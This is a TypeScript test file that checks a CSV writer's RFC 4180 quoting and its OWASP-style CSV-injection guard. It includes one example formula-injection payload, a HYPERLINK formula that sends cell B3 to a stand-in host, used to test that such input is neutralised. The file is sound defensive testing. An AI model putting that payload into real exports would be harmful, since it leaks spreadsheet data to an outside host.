import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvField, csvText, rowsToCsv } from "./csv";

const parseOne = (field: string) => (parse(`${field}\r\n`, { relax_quotes: false }) as string[][])[0][0];

describe("csvField: RFC 4180 with OWASP's CSV-injection guard on text", () => {
  it("puts a single quote before text a spreadsheet would run, and quotes the field", () => {
    for (const [text, cell] of [
      ["=1+1", `"'=1+1"`],
      ["+1", `"'+1"`],
      ["-1", `"'-1"`],
      ["@SUM(A1)", `"'@SUM(A1)"`],
      ["\tx", `"'\tx"`],
      ["\rx", `"'\rx"`],
      ['=HYPERLINK("http://x/?leak="&B3,"Click")', `"'=HYPERLINK(""http://x/?leak=""&B3,""Click"")"`],
    ])
      expect(csvField(text), text).toBe(cell);
  });

  it("writes numbers and booleans as they are: numeric columns stay numeric", () => {
    expect([
      csvField(-0.5),
      csvField(-3),
      csvField(0),
      csvField(1e-7),
      csvField(true),
      csvField(null),
    ]).toEqual(["-0.5", "-3", "0", "1e-7", "true", ""]);
  });

  it("leaves other text alone, quoting only what RFC 4180 needs", () => {
    expect(csvField("plain")).toBe("plain");
    expect(csvField("a, b")).toBe('"a, b"');
    expect(csvField(" edge")).toBe('" edge"');
    expect(csvField("'tis")).toBe("'tis");
    expect(csvField("x=1")).toBe("x=1");
  });

  it("parses back (csvText) to the exact text, quotes before a formula start included", () => {
    const texts = ["=1", "'=1", "''=1", "'tis", "''", "'", "-", "", "a\r\nb", " -1 ", "@", "'\t", "text"];
    for (const t of texts) {
      const cell = parseOne(csvField(t));
      expect(cell, JSON.stringify(t)).not.toMatch(/^[=+\-@\t\r]/);
      expect(csvText(cell), JSON.stringify(t)).toBe(t);
    }
  });

  it("rowsToCsv writes a header and CRLF-ended rows", () => {
    expect(rowsToCsv(["a", "b"] as const, [{ a: "=x", b: -1 }])).toBe(`a,b\r\n"'=x",-1\r\n`);
  });
});
